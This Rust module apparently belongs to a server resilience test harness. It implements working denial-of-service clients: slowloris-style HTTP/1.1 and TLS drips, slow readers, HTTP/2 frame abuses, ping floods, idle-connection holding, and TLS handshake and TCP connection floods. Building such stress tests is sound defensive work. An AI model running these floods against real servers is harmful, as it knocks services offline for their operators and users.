//! Clients that keep a server waiting or busy, as fast as one core lets them.

use crate::{h2, legit, tls};
use anyhow::{Result, bail};
use boring::ssl::SslStream;
use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::thread;
use std::time::{Duration, Instant};

/// All of them.
pub(crate) const NAMES: &[&str] = &[
    "hello_drip",
    "head_drip",
    "head_drip_after_request",
    "body_drip",
    "answer_drip",
    "h2_preface_only",
    "h2_half_fields",
    "h2_body_drip",
    "h2_no_window",
    "h2_pings",
    "idle",
    "handshake_flood",
    "connection_flood",
];

/// Connections that drip, and how often each sends a byte.
const SLOW: usize = 1_000;
const DRIP: Duration = Duration::from_millis(500);
/// Connections of HTTP/2 that are slow or idle: a handshake each.
const SLOW_H2: usize = 500;
/// Connections that take an answer in drips. Each first fills the kernel's buffers, some MiB, at the speed of a download:
/// a short run sees little but that.
const SLOW_READERS: usize = 200;
/// What such a client's kernel takes for it, as little as it lets itself be told.
const RECEIVE_BUFFER: usize = 2048;
/// Connections that a flood holds before it lets the oldest go.
const FLOOD: usize = 5_000;

enum Line {
    Plain(TcpStream),
    Tls(SslStream<TcpStream>),
}

impl Line {
    fn send(&mut self, bytes: &[u8]) -> bool {
        let sent = match self {
            Self::Plain(tcp) => tcp.write(bytes),
            Self::Tls(stream) => stream.write(bytes),
        };
        open(sent.map(|_| 1))
    }

    fn take(&mut self, most: usize) -> bool {
        let mut bytes = vec![0; most];
        open(match self {
            Self::Plain(tcp) => tcp.read(&mut bytes),
            Self::Tls(stream) => stream.read(&mut bytes),
        })
    }

    fn nonblocking(self) -> Result<Self> {
        match &self {
            Self::Plain(tcp) => tcp.set_nonblocking(true)?,
            Self::Tls(stream) => stream.get_ref().set_nonblocking(true)?,
        }
        Ok(self)
    }
}

/// Whether the other side is still there.
fn open(done: std::io::Result<usize>) -> bool {
    match done {
        Ok(bytes) => bytes > 0,
        Err(error) => error.kind() == ErrorKind::WouldBlock,
    }
}

/// Attacks for `seconds`, once it has said that it is under way; `idle` connections where nothing else is done.
pub(crate) fn run(
    name: &str,
    plain: SocketAddr,
    encrypted: SocketAddr,
    seconds: u64,
    idle: usize,
    under_way: impl FnOnce(),
) -> Result<()> {
    let time = Duration::from_secs(seconds);
    match name {
        "handshake_flood" => {
            under_way();
            return handshakes(encrypted, time);
        }
        "connection_flood" => {
            under_way();
            return connections(plain, time);
        }
        _ => {}
    }
    let slow = Slow::named(name)?;
    let count = match name {
        "idle" => idle,
        "answer_drip" => SLOW_READERS,
        _ if slow.encrypted => SLOW_H2,
        _ => SLOW,
    };
    let to = if slow.encrypted || name == "hello_drip" {
        encrypted
    } else {
        plain
    };
    let begin = || slow.begin(to).and_then(Line::nonblocking);
    let mut lines: Vec<_> = (0..count).filter_map(|_| begin().ok()).collect();
    under_way();
    let end = Instant::now() + time;
    while Instant::now() < end {
        let next = Instant::now() + DRIP;
        for line in &mut lines {
            let alive = line.send(slow.drip) && (slow.takes == 0 || line.take(slow.takes));
            // Who is cut comes again.
            if !alive && let Ok(new) = begin() {
                *line = new;
            }
        }
        thread::sleep(next.saturating_duration_since(Instant::now()));
    }
    Ok(())
}

/// One way to be slow.
struct Slow {
    encrypted: bool,
    /// It asks for a page first, as anybody.
    asks: bool,
    begin: Vec<u8>,
    drip: &'static [u8],
    takes: usize,
}

impl Slow {
    fn named(name: &str) -> Result<Self> {
        let plain = |begin: &str| Self {
            encrypted: false,
            asks: false,
            begin: begin.into(),
            drip: b"x",
            takes: 0,
        };
        let encrypted = |begin: Vec<u8>| Self {
            encrypted: true,
            asks: false,
            begin,
            drip: b"",
            takes: 0,
        };
        let post = h2::request(1, "POST", "localhost", "/", false);
        let get = h2::request(1, "GET", "localhost", "/", true);
        let opened = |window, more: &[u8]| [&h2::opening(window), more].concat();
        const DRIP: &[u8] = &[0, 0, 1, h2::DATA, 0, 0, 0, 0, 1, b'x'];
        const PING: &[u8] = &[0, 0, 8, h2::PING, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
        Ok(match name {
            "hello_drip" => plain("\u{16}\u{3}\u{1}\u{2}\u{0}\u{1}"),
            "head_drip" => plain("GET / HTTP/1.1\r\nHost: localhost\r\nX: "),
            "head_drip_after_request" => Self {
                asks: true,
                ..plain("GET / HTTP/1.1\r\nHost: localhost\r\nX: ")
            },
            "body_drip" => {
                plain("POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n")
            }
            "answer_drip" => Self {
                drip: b"",
                takes: 1,
                ..plain("GET /big HTTP/1.1\r\nHost: localhost\r\n\r\n")
            },
            "h2_preface_only" => encrypted(h2::PREFACE.to_vec()),
            "idle" => encrypted(opened(None, &[])),
            "h2_half_fields" => {
                let half = h2::frame(h2::HEADERS, h2::END_STREAM, 1, &[]);
                encrypted(opened(None, &half))
            }
            "h2_body_drip" => Self {
                drip: DRIP,
                ..encrypted(opened(None, &post))
            },
            "h2_no_window" => encrypted(opened(Some(0), &get)),
            "h2_pings" => Self {
                drip: PING,
                ..encrypted(opened(None, &[]))
            },
            other => bail!("{other} is unknown"),
        })
    }

    fn begin(&self, to: SocketAddr) -> Result<Line> {
        let mut line = if self.encrypted {
            Line::Tls(tls::connect(&tls::connector(true)?, to)?)
        } else {
            let mut tcp = tls::tcp(to)?;
            if self.takes > 0 {
                rustix::net::sockopt::set_socket_recv_buffer_size(&tcp, RECEIVE_BUFFER)?;
            }
            if self.asks {
                legit::get(&mut tcp)?;
            }
            Line::Plain(tcp)
        };
        line.send(&self.begin);
        Ok(line)
    }
}

/// Handshakes, one after the other, each thrown away.
fn handshakes(to: SocketAddr, time: Duration) -> Result<()> {
    let connector = tls::connector(true)?;
    let (end, mut count) = (Instant::now() + time, 0_u64);
    while Instant::now() < end {
        // What is refused was an attack all the same.
        count += u64::from(tls::connect(&connector, to).is_ok());
    }
    eprintln!("{count} handshakes");
    Ok(())
}

/// Connections on which nothing is ever said.
fn connections(to: SocketAddr, time: Duration) -> Result<()> {
    let (end, mut count) = (Instant::now() + time, 0_u64);
    let mut held = VecDeque::new();
    while Instant::now() < end {
        if let Ok(tcp) = TcpStream::connect_timeout(&to, Duration::from_secs(1)) {
            held.push_back(tcp);
            count += 1;
        }
        if held.len() > FLOOD {
            held.pop_front();
        }
    }
    eprintln!("{count} connections");
    Ok(())
}
